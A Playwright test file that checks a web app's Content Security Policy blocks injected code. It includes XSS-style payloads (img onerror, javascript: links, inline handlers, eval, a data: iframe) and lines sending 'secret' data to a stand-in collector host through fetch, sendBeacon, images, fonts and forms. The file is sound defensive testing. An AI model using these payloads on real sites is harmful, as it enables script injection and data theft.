import { createServer } from 'node:http';
import { expect, type Page, test } from 'playwright/test';
import { hostHeaders, pagePolicy } from '../../build/content-security-policy.ts';
import { appAddress } from './address.ts';
import { exportPdf, openExample, openStart } from './app.ts';

/** Another host, which notes whatever reaches it. */
const foreignPort = 4189;
const foreign = `http://127.0.0.1:${foreignPort}/collect`;

interface Attempt {
  /** What the browser said no to, as the directive that was broken, or the error that was thrown. */
  readonly refused: readonly string[];
  readonly didRun: boolean;
}

/**
 * Runs the code as a page's own script would, a task later than the debugger's call (whose code may use `eval`),
 * and waits for what comes of it.
 */
function attempt(page: Pick<Page, 'evaluate'>, code: string): Promise<Attempt> {
  return page.evaluate(async (source) => {
    const scope = globalThis as { didRun?: boolean };
    scope.didRun = false;
    const refused: string[] = [];
    const note = (event: Event) =>
      refused.push((event as SecurityPolicyViolationEvent).effectiveDirective);
    addEventListener('securitypolicyviolation', note);
    const run = new Function(`return (async () => { ${source} })()`);
    await new Promise<void>((resolve) => {
      setTimeout(async () => {
        await run().catch((error: Error) => refused.push(error.name));
        setTimeout(resolve, 300);
      });
    });
    removeEventListener('securitypolicyviolation', note);
    return { refused, didRun: scope.didRun };
  }, code);
}

const scripts = {
  'a script element': `
    const script = document.createElement('script');
    script.append('globalThis.didRun = true');
    document.body.append(script);`,
  'a script element with a string for its text': `
    const script = document.createElement('script');
    script.text = 'globalThis.didRun = true';
    document.body.append(script);`,
  'a script from elsewhere': `
    const script = document.createElement('script');
    script.src = '${foreign}.js';
    document.body.append(script);`,
  eval: `globalThis['eval']('globalThis.didRun = true');`,
  'a function made of a string': `new Function('globalThis.didRun = true')();`,
  'a timer with a string': `setTimeout('globalThis.didRun = true', 0);`,
  'HTML as a string': `
    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.didRun = true">');`,
  'HTML by assignment': `
    document.createElement('div').innerHTML = '<img src="x:" onerror="globalThis.didRun = true">';`,
  'an attribute that is a script': `
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.didRun = true');
    document.body.append(button);
    button.click();`,
  'a javascript: link': `
    const link = document.createElement('a');
    link.href = 'javascript:void(globalThis.didRun = true)';
    document.body.append(link);
    link.click();`,
  'a frame': `
    const frame = document.createElement('iframe');
    frame.src = 'data:text/html,<script>top.didRun = true</script>';
    document.body.append(frame);`,
  'a worker from a text': `
    new Worker(URL.createObjectURL(new Blob(['']), { type: 'text/javascript' }));`,
  'a worker from elsewhere': `new Worker('${foreign}.js');`,
  'a service worker from elsewhere': `await navigator.serviceWorker.register('/elsewhere.js');`,
  'a policy of its own': `
    const policy = trustedTypes.createPolicy('mine', { createHTML: (html) => html });
    document.body.append(policy.createHTML('x'));`,
};

/** Chromium leaves it without running it, and tells nobody but the console. */
const silent = 'a script element';

for (const [name, code] of Object.entries(scripts)) {
  test(`code that has got into the page cannot run ${name}`, async ({ page }) => {
    await openStart(page);
    const { refused, didRun } = await attempt(page, code);
    expect(didRun).toBe(false);
    expect(refused.length > 0).toBe(name !== silent);
  });
}

const ways = {
  'a request': `await fetch('${foreign}');`,
  'a request that outlives the page': `
    if (!navigator.sendBeacon('${foreign}', 'secret')) { throw new Error('refused'); }`,
  'an open connection': `new WebSocket('ws://127.0.0.1:${foreignPort}/');`,
  'an event stream': `new EventSource('${foreign}');`,
  'a picture': `new Image().src = '${foreign}.png?secret';`,
  'a style sheet': `
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = '${foreign}.css?secret';
    document.head.append(link);`,
  'a font': `await new FontFace('x', 'url(${foreign}.woff2)').load();`,
  'a form': `
    const form = document.createElement('form');
    form.action = '${foreign}';
    document.body.append(form);
    form.submit();`,
};

test('code that has got into the page cannot send anything to another host, in any way', async ({
  page,
}) => {
  const reached: string[] = [];
  const host = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end();
  }).listen(foreignPort);
  await openStart(page);
  for (const [name, code] of Object.entries(ways)) {
    expect((await attempt(page, code)).refused, name).not.toEqual([]);
  }
  expect(reached).toEqual([]);
  // What the page cannot do, others can: the host does note what reaches it.
  await fetch(foreign);
  expect(reached).toEqual(['/collect']);
  host.close();
  host.closeAllConnections();
});

test('the page itself fetches nothing, not even from its own host', async ({ page }) => {
  await openStart(page);
  expect((await attempt(page, "await fetch('./?text=secret');")).refused).toContain('connect-src');
});

test('a worker cannot reach other hosts, nor run strings, where the host sends the headers', async ({
  page,
}) => {
  const [worker] = await Promise.all([page.waitForEvent('worker'), openExampleAndExport(page)]);
  expect(worker.url()).toContain(new URL(appAddress).origin);
  expect((await attempt(worker, `await fetch('${foreign}');`)).refused).not.toEqual([]);
  const { refused, didRun } = await attempt(worker, scripts.eval);
  expect(refused).not.toEqual([]);
  expect(didRun).toBe(false);
});

test('the built page carries the policy, before anything else that it loads', async ({ page }) => {
  await openStart(page);
  const [first] = await page.locator('head > *').all();
  await expect(page.locator('head > meta[http-equiv]').first()).toHaveAttribute(
    'content',
    pagePolicy(),
  );
  expect(await first?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
});

test('the headers are on every file, and no other site can show the app in a frame', async ({
  page,
}) => {
  const lacking: string[] = [];
  page.on('response', (response) => {
    const headers = response.headers();
    lacking.push(
      ...Object.entries(hostHeaders)
        .filter(([name, value]) => headers[name.toLowerCase()] !== value)
        .map(([name]) => `${response.url()}: ${name}`),
    );
  });
  await openStart(page);
  expect(lacking).toEqual([]);
  await page.goto('about:blank');
  await page.setContent(`<iframe src="${appAddress}"></iframe>`);
  // The browser shows a page of its own in the app's place.
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});

async function openExampleAndExport(page: Page): Promise<void> {
  await openExample(page);
  await exportPdf(page);
}
